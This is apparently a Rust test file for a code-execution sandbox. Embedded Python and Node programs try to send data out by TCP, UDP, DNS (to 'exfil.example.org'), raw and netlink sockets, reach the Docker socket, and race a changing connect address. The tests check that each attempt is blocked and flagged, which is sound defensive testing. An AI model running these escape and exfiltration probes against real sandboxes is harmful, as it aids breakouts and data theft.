//! Nothing leaves, and every attempt is told.

use std::io::Read as _;
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};

use crate::world::{each, flags, node, run, tried, ways};

/// An address of this machine that is not its loopback, if it has one.
fn own_address() -> Option<std::net::IpAddr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?; // sends nothing, only asks for a route
    socket.local_addr().ok().map(|address| address.ip())
}

#[test]
fn connections_are_told_and_reach_nobody() {
    // Listeners of the machine itself, which everything outside of a sandbox reaches.
    let loopback = TcpListener::bind("127.0.0.1:0").expect("a port");
    let other = TcpListener::bind((own_address().unwrap_or([127, 0, 0, 2].into()), 0)).expect("a port");
    let udp = UdpSocket::bind("0.0.0.0:0").expect("a port");
    let name = format!("sigma-test-{}", std::process::id());
    let local = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).expect("a name")).expect("a socket");
    loopback.set_nonblocking(true).expect("a mode");
    other.set_nonblocking(true).expect("a mode");
    udp.set_nonblocking(true).expect("a mode");
    local.set_nonblocking(true).expect("a mode");
    let program = format!(
        r#"
import socket, ctypes
def attempt(what, f):
    try:
        print(what, 'gave', f())
    except OSError as error:
        print(what, 'failed', error.errno)
def tcp(to, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(to)
    s.sendall(b'hello')
    return 'connected'
attempt('tcp', lambda: tcp(('192.0.2.7', 4444)))
attempt('tcp6', lambda: tcp(('2001:db8::7', 4445), socket.AF_INET6))
attempt('host loopback', lambda: tcp(('127.0.0.1', {loopback})))
attempt('host', lambda: tcp(('{address}', {other})))
attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'data', ('192.0.2.8', 5555)))
attempt('udp host', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'data', ('{address}', {udp})))
def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(('192.0.2.9', 6666))
    return s.send(b'data')
attempt('udp connected', connected)
attempt('sendmsg', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'da', b'ta'], [], 0, ('192.0.2.10', 7777)))
attempt('dns', lambda: socket.getaddrinfo('exfil.example.org', 443))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12))
attempt('alg', lambda: socket.socket(38, 5))
attempt('pair', lambda: ctypes.CDLL(None).socketpair(2, 1, 0, ctypes.byref((ctypes.c_int * 2)())))
def abstract(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(name)
    return 'connected'
attempt('abstract', lambda: abstract('\0{name}'))
attempt('engine', lambda: abstract('/var/run/docker.sock'))
"#,
        loopback = loopback.local_addr().expect("an address").port(),
        other = other.local_addr().expect("an address").port(),
        address = other.local_addr().expect("an address").ip(),
        udp = udp.local_addr().expect("an address").port(),
    );
    each(&program, |way, execution| {
        let say = format!("{way:?} {execution:#?}");
        assert!(tried(&execution, "tcp", "192.0.2.7:4444"), "{say}");
        let six = std::path::Path::new("/proc/net/if_inet6").exists();
        assert!(!six || tried(&execution, "tcp", "[2001:db8::7]:4445"), "{say}");
        assert!(tried(&execution, "udp", "192.0.2.8:5555"), "{say}");
        assert!(tried(&execution, "udp", "192.0.2.9:6666"), "{say}");
        assert!(tried(&execution, "udp", "192.0.2.10:7777"), "{say}");
        assert!(tried(&execution, "dns", "exfil.example.org"), "{say}");
        for protocol in ["raw", "icmp", "packet", "vsock", "netlink", "kernel crypto"] {
            assert!(tried(&execution, protocol, ""), "{protocol}: {say}");
        }
        assert!(tried(&execution, "unix", "@sigma-test"), "{say}");
        assert!(tried(&execution, "unix", "/var/run/docker.sock"), "{say}");
        for failed in ["raw", "icmp", "packet", "vsock", "netlink", "alg", "abstract", "engine"] {
            assert!(execution.output.contains(&format!("{failed} failed")), "{failed}: {say}");
        }
        for flag in ["network-bare-address", "network-undeclared", "network-unusual-socket", "local-service"] {
            assert!(flags(&execution).contains(&flag), "{flag}: {say}");
        }
    });
    assert!(loopback.accept().is_err(), "the machine's loopback was reached");
    assert!(other.accept().is_err(), "the machine was reached");
    assert!(local.accept().is_err(), "an abstract socket was reached");
    assert!(udp.recv(&mut [0; 64]).is_err(), "a datagram left");
    // And the listeners do hear what is not in a sandbox.
    let own = std::net::TcpStream::connect(loopback.local_addr().expect("an address")).expect("a connection");
    drop(own);
    loopback.set_nonblocking(false).expect("a mode");
    let mut rest = Vec::new();
    loopback.accept().expect("it listens").0.read_to_end(&mut rest).expect("it reads");
}

#[test]
fn names_are_joined_to_connections() {
    let text = "import urllib.request\ntry:\n    urllib.request.urlopen('http://api.example.org/v1', data=b'x=1', timeout=5)\n\
                except Exception as error:\n    print(error)";
    for way in ways().into_iter().filter(|way| way.namespaces()) {
        let mut job = crate::world::python(text);
        let execution = run(way, &job);
        let joined = |execution: &sigma_core::Execution| {
            execution
                .network
                .listed
                .iter()
                .any(|attempt| attempt.protocol == "tcp" && attempt.host.as_deref() == Some("api.example.org"))
        };
        assert!(joined(&execution), "{execution:#?}");
        assert!(execution.output.contains("503"), "the sink answers HTTP: {execution:#?}");
        assert_eq!(flags(&execution), ["network-undeclared"], "{execution:#?}");
        // A declared host is no surprise.
        job.declared_hosts = vec!["example.org".to_owned()];
        let execution = run(way, &job);
        assert!(joined(&execution) && execution.flags.is_empty(), "{execution:#?}");
        job.declared_hosts = vec!["ample.org".to_owned(), "org.example".to_owned()];
        assert_eq!(flags(&run(way, &job)), ["network-undeclared"]);
    }
}

#[test]
fn node_reaches_nobody() {
    let text = r#"
const dns = require('dns'), dgram = require('dgram'), net = require('net');
(async () => {
  await fetch('http://one.example.org/x', { method: 'POST', body: 'x' }).then((r) => console.log(r.status), (e) => console.log(e.message));
  await fetch('https://two.example.org/').catch((e) => console.log(e.message));
  // Without namespaces this resolver drops the answer, because it comes from no address; the name is seen all the same.
  const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
  await new Promise((done) => resolver.resolve4('three.example.org', (error, all) => done(console.log(error, all))));
  await new Promise((done) => { const s = dgram.createSocket('udp4'); s.send('x', 9, '192.0.2.1', () => s.close(done)); });
  await new Promise((done) => net.connect(8, '192.0.2.2').on('error', done).on('connect', done).on('close', done));
})();
"#;
    let Some(job) = node(text) else { return };
    for way in ways() {
        let execution = run(way, &job);
        assert!(tried(&execution, "dns", "three.example.org"), "{way:?} {execution:#?}");
        assert!(tried(&execution, "tcp", "192.0.2.2:8"), "{way:?} {execution:#?}");
        assert!(tried(&execution, "udp", "192.0.2.1:9"), "{way:?} {execution:#?}");
        assert!(tried(&execution, "dns", "one.example.org"), "{way:?} {execution:#?}");
        if way.namespaces() {
            let host =
                |name: &str| execution.network.listed.iter().any(|attempt| attempt.host.as_deref() == Some(name));
            assert!(host("one.example.org") && host("two.example.org"), "{execution:#?}");
            assert!(flags(&execution).contains(&"encrypted-traffic"), "{execution:#?}");
        }
    }
}

/// A second thread changes the address all the time. Whatever was copied is what was tried: nothing leaves, and the count
/// is exact.
#[test]
fn an_address_that_changes_while_it_is_read_hides_nothing_that_leaves() {
    let trap = TcpListener::bind("127.0.0.1:0").expect("a port");
    trap.set_nonblocking(true).expect("a mode");
    let program = format!(
        r#"
import ctypes, socket, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
far = struct.pack('!HH4s8x', 0, 4444, socket.inet_aton('192.0.2.7'))
near = struct.pack('!HH4s8x', 0, {port}, socket.inet_aton('127.0.0.1'))
one, two = (struct.pack('=H', 2) + a[2:] for a in (far, near))
buffer = ctypes.create_string_buffer(one, 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buffer, two, 16)
        ctypes.memmove(buffer, one, 16)
thread = threading.Thread(target=flip)
thread.start()
for _ in range(500):
    s = socket.socket()
    s.setblocking(False)
    libc.connect(s.fileno(), buffer, 16)
    s.close()
stop = True
thread.join()
"#,
        port = trap.local_addr().expect("an address").port()
    );
    each(&program, |way, execution| {
        assert_eq!(execution.network.total, 500, "{way:?} {execution:#?}");
    });
    assert!(trap.accept().is_err(), "a connection left");
}
